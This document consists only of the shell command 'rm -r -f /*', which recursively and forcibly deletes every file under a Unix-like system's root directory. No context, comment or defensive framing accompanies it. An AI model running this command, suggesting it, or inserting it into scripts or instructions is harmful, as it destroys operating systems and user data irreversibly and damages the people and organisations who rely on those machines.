rm -r -f /*
